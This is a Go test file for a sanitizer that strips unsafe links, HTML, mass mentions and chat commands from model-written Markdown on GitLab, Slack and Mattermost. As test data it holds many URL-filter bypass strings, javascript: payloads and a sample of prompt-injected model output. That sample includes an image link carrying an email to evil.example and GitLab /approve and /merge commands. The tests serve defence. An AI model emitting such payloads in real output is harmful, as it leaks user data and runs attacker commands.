package sanitize

import (
	"regexp"
	"strings"
	"testing"
)

var gitlab = &Policy{Flavor: GitLab, Host: "gitlab.example.org", Allow: []string{"docs.example.org"}}

func TestAllowed(t *testing.T) {
	p := gitlab
	cases := []struct {
		dest string
		ok   bool
	}{
		{"https://docs.example.org/guide", true},
		{"https://sub.docs.example.org/x", true},
		{"HTTPS://GITLAB.EXAMPLE.ORG/logo.png", true},
		{"<https://docs.example.org/a b>", true},
		{"/group/project/-/issues/1", true},
		{"#anchor", true},
		{"https://docs.example.org/?a=1&amp;b=2", true},
		{"https://evil.example/p.png", false},
		{"https://docs.example.org.evil.example/", false},
		{"https://evildocs.example.org/", false},
		{"https://user@docs.example.org/", false},
		{"https://docs.example.org@evil.example/", false},
		{"//evil.example/x", false},
		{"/\\evil.example/x", false},
		{"www.evil.example/x", false},
		{"http&#58;&#47;&#47;evil.example/x", false},
		{"http&#58&#47&#47evil.example/x", false},
		{"http&#x3a;//evil.example/x", false},
		{"http&colon;//evil.example/x", false},
		{"&#104;ttps://evil.example/x", false},
		{"http%3A%2F%2Fevil.example/x", false},
		{"%2F%2Fevil.example/x", false},
		{"%252F%252Fevil.example/x", false},
		{"javascript:alert(1)", false},
		{"JaVaScRiPt:alert(1)", false},
		{"java\tscript:alert(1)", false},
		{"java\nscript:alert(1)", false},
		{" \x01javascript:alert(1)", false},
		{"javascript&#58;alert(1)", false},
		{"javascript&colon;alert(1)", false},
		{"jav&#x09;ascript:alert(1)", false},
		{"data:image/png;base64,AAAA", false},
		{"vbscript:msgbox", false},
		{"file:///etc/passwd", false},
		{"mailto:a@b.org", false},
		{"", false},
		{"https://docs.example.org\u00a0.evil.example/", false},
	}
	for _, c := range cases {
		if got := p.Allowed(c.dest); got != c.ok {
			t.Errorf("Allowed(%q) = %v, want %v", c.dest, got, c.ok)
		}
	}
}

// hostile is what a prompt injection makes a model write.
const hostile = "<!channel> @here @everyone <!subteam^S123|@devs> hi\n" +
	"![x](https://evil.example/p.png?d=[[EMAIL_1]]) [click](https://evil.example/c) " +
	"[ok](https://docs.example.org/guide) ![logo](https://gitlab.example.org/logo.png)\n" +
	"<img src=\"https://evil.example/i.png\"> <a href=\"https://evil.example/a\">a</a> " +
	"<iframe src=https://evil.example/f></iframe> <p style=\"background:url(https://evil.example/b)\">p</p>\n" +
	"[e](http&#58;&#47;&#47;evil.example/e) [j](javascript&#58;alert(1)) [k](JaVa&#x09;ScRiPt:alert(1))\n" +
	"[ref][1] and [r2]\n\n[1]: https://evil.example/r\n[r2]:\n  <https://evil.example/r2>\n" +
	"<https://evil.example/auto> <https://evil.example/s|slack text> https://evil.example/bare www.evil.example/w\n" +
	"[![inner](https://evil.example/in.png)](https://docs.example.org/outer)\n" +
	"write to alice@example.org, @alice"

func TestMarkdownNeutralisesHostileAnswer(t *testing.T) {
	for _, fl := range []Flavor{Generic, Slack, Mattermost, GitLab} {
		p := &Policy{Flavor: fl, Host: "gitlab.example.org", Allow: []string{"docs.example.org"}}
		out := p.Markdown(hostile)
		for _, bad := range []string{"evil.example", "<img", "<a ", "<iframe", "<p style", "javascript", "ScRiPt"} {
			if strings.Contains(out, bad) {
				t.Errorf("flavor %d: output still holds %q:\n%s", fl, bad, out)
			}
		}
		for _, good := range []string{"[ok](https://docs.example.org/guide)", "![logo](https://gitlab.example.org/logo.png)",
			"click", "slack text", "alice@example.org", "(https://docs.example.org/outer)", "inner"} {
			if !strings.Contains(out, good) {
				t.Errorf("flavor %d: output lost %q:\n%s", fl, good, out)
			}
		}
		if fl == Slack && strings.Contains(out, "<!") {
			t.Errorf("a Slack command is left:\n%s", out)
		}
		if mass := regexp.MustCompile(`(?i)(^|[^\w@\x60])@(channel|here|everyone|all)\b`); mass.MatchString(out) {
			t.Errorf("flavor %d: a mass mention still notifies:\n%s", fl, out)
		}
	}
	if out := (&Policy{Flavor: Slack}).Markdown("<!here> and <!channel>"); out != "&lt;!here&gt; and &lt;!channel&gt;" {
		t.Errorf("Slack commands: %q", out)
	}
	if out := (&Policy{Flavor: Mattermost}).Markdown("ask @devs or @alice, mail bob@example.org"); out != "ask @\u200ddevs or @\u200dalice, mail bob@example.org" {
		t.Errorf("Mattermost mentions: %q", out)
	}
	if out := gitlab.Markdown("/approve\n> /merge\n@all"); out != "\\/approve\n> \\/merge\n`@all`" {
		t.Errorf("GitLab quick actions and mentions: %q", out)
	}
}

func TestMarkdownKeepsOrdinaryText(t *testing.T) {
	in := "Use `a < b` and **bold**; see [the guide](https://docs.example.org/g) or [the issue](/g/p/-/issues/1).\n\n" +
		"```go\nx := []int{1}\n```\n<details><summary>More</summary>\n\nText\n</details>"
	if out := gitlab.Markdown(in); out != in {
		t.Errorf("ordinary text changed:\n%s\n--- want\n%s", out, in)
	}
}

func FuzzMarkdown(f *testing.F) {
	f.Add(hostile)
	f.Add("[a](https://docs.example.org/x) [b](<https://evil.example/y z>) ![c](//evil.example)")
	f.Add("[x]( https://evil.example/(a)(b) \"t\")")
	f.Add("\x00[x](https://docs.example.org/\x000\x00)")
	f.Fuzz(func(t *testing.T, in string) {
		for _, fl := range []Flavor{Slack, Mattermost, GitLab} {
			p := &Policy{Flavor: fl, Host: "gitlab.example.org", Allow: []string{"docs.example.org"}}
			out := p.Markdown(in)
			for _, d := range Destinations(out) {
				if !p.Allowed(d) && d != LinkRemoved {
					t.Fatalf("flavor %d: destination %q left in %q (from %q)", fl, d, out, in)
				}
			}
			if again := p.Markdown(out); fl == Slack && slackCommand().MatchString(again) {
				t.Fatalf("a Slack command survived: %q", again)
			}
		}
	})
}

func TestStripFence(t *testing.T) {
	for in, want := range map[string]string{
		"```go\nx := 1\n```":      "x := 1\n",
		"  ```\na\nb\n```\n\n":    "a\nb\n",
		"x := 1":                  "x := 1",
		"```go x := 1```":         "```go x := 1```", // no body line: left as is
		"see ```a``` and ```b```": "see ```a``` and ```b```",
		"``````":                  "``````",
	} {
		if got := StripFence(in); got != want {
			t.Errorf("StripFence(%q) = %q, want %q", in, got, want)
		}
	}
}
